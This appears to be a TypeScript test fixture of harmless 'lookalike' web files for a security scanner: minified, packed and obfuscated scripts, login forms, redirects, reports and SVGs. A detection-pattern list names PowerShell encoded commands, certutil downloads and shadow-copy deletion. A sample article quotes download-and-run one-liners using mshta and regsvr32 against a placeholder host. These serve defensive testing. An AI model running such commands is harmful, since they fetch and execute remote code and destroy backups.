// Honest pages and scripts of pages.
import { writeZip } from '../write-zip.ts'
import { file, type Lookalike } from './lookalike.ts'

const testResults = writeZip({ 'report.json': JSON.stringify({ tests: Array(40).fill('sign in works') }) })

export const web: readonly Lookalike[] = [
  file(
    'jquery-like.min.js',
    `/*! lib v1 */!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?module.exports=e.document?t(e,!0):t:t(e)}("undefined"!=typeof window?window:this,function(e,t){var n=[],r=e.document;function a(e){var t=r.createElement("script");t.text=e,r.head.appendChild(t).parentNode.removeChild(t)}return{globalEval:a,ajax:function(t){var n=new e.XMLHttpRequest;try{n=new e.ActiveXObject("Microsoft.XMLHTTP")}catch(e){}return n.open("GET",t),n}}});`,
  ),
  file(
    'packed.js',
    `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0 1(2){3 2+1}',4,4,'function|add|x|return'.split('|'),0,{}))`,
  ),
  file(
    'webpack.js',
    '(()=>{var e={12:(e,t,n)=>{"use strict";n.d(t,{Z:()=>r});const r="x"}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n.d=(e,t)=>{for(var r in t)Object.defineProperty(e,r,{get:t[r]})};eval("console.log(1)")})();',
  ),
  file(
    'obfuscated-commercial.js',
    "var _0x4f2a=['log','hello','length','slice'];(function(_0x1a2b,_0x3c4d){var _0x5e6f=function(_0x7a8b){while(--_0x7a8b){_0x1a2b['push'](_0x1a2b['shift']());}};_0x5e6f(++_0x3c4d);}(_0x4f2a,0x1b3));var _0x2b1c=function(_0x9d8e,_0x7f6a){_0x9d8e=_0x9d8e-0x0;var _0x5b4c=_0x4f2a[_0x9d8e];return _0x5b4c;};console[_0x2b1c('0x0')](_0x2b1c('0x1'));",
  ),
  file(
    'build-tool.js',
    "const { execFileSync, spawn } = require('child_process')\nconst https = require('https')\nconst path = require('path')\nif (process.platform === 'win32') spawn('cmd.exe', ['/c', 'npm.cmd', 'run', 'build'], { stdio: 'inherit' })\nelse execFileSync('npm', ['run', 'build'])\nhttps.get('https://registry.npmjs.org/esbuild', (r) => r.resume())\n",
  ),
  file(
    'export-csv.js',
    "export function saveCsv(rows) {\n  const blob = new Blob([rows.join('\\n')], { type: 'text/csv' })\n  const a = document.createElement('a')\n  a.href = URL.createObjectURL(blob)\n  a.download = 'export.csv'\n  a.click()\n}\n",
  ),
  file(
    'base64-font.js',
    `export default "data:font/woff2;base64,${Buffer.alloc(900, 'wOF2abcdefg').toString('base64')}"\n`,
  ),
  file(
    'regexes.js',
    "export const patterns = [/powershell.*-enc/i, /cmd\\.exe \\/c/, /vssadmin delete shadows/, /certutil.*-urlcache/]\nexport const names = ['WScript.Shell', 'mshta', 'rundll32']\n",
  ),
  file(
    'page.html',
    '<!doctype html><html><head><title>Our company</title><link rel="canonical" href="https://www.example.org/"></head><body><h1>Welcome</h1><p>We make things.</p><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}</script></body></html>',
  ),
  file(
    'router-login.html',
    '<html><head><title>Router</title></head><body><form action="/login.cgi" method="post"><input name="user"><input type="password" name="pwd"><input type="submit"></form></body></html>',
  ),
  file(
    'saved-login.html',
    '<!-- saved from url=(0031)https://accounts.example.org/in --><html><head><title>Sign in</title><link rel="canonical" href="https://accounts.example.org/in"></head><body><form action="https://accounts.example.org/session" method="post"><input name="u"><input type="password" name="p"></form></body></html>',
  ),
  file(
    'article.html',
    '<html><head><title>How macro malware works</title></head><body><article><p>The document asks to click Enable Content. Then <code>powershell -w hidden -enc ...</code> runs, which calls <code>IEX (New-Object Net.WebClient).DownloadString</code>. Attackers also use mshta http://files.test/a.hta and regsvr32 /i:http://files.test/a.sct scrobj.dll.</p><p>Ransomware runs vssadmin delete shadows.</p></article></body></html>',
  ),
  file(
    'moved.html',
    '<html><head><meta http-equiv="refresh" content="0; url=https://docs.example.org/new/"></head><body>Moved to <a href="https://docs.example.org/new/">here</a></body></html>',
  ),
  file(
    'report.html',
    `<html><head><title>Coverage</title><style>body{font:12px sans}</style></head><body>${'<tr><td>file.ts</td><td>98%</td></tr>'.repeat(60)}<script>function toggle(i){document.getElementById(i).click()}</script><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="></body></html>`,
  ),
  file(
    'test-report.html',
    `<html><head><title>Test report</title></head><body><div id="root">Forty tests, forty passed.</div><script>const data="data:application/zip;base64,${testResults.toString('base64')}";function save(){const raw=atob(data.slice(data.indexOf(",")+1));const bytes=Uint8Array.from(raw,(one)=>one.charCodeAt(0));const a=document.createElement("a");a.href=URL.createObjectURL(new Blob([bytes],{type:"application/zip"}));a.download="report.zip";a.click()}const button=document.createElement("button");button.textContent="Download";button.onclick=save;document.getElementById("root").append(button)</script></body></html>`,
  ),
  file(
    'chart.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="10" height="40"/><text x="5" y="5">a</text></svg>',
  ),
  file(
    'interactive.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>function show(e){e.target.setAttribute("fill","red")}</script><rect width="10" height="10" onclick="show(evt)"/></svg>',
  ),
  file(
    'office-link.html',
    '<html><body><p>Edit: <a href="ms-word:ofe|u|https://example.sharepoint.com/a.docx">open in Word</a></p></body></html>',
  ),
]
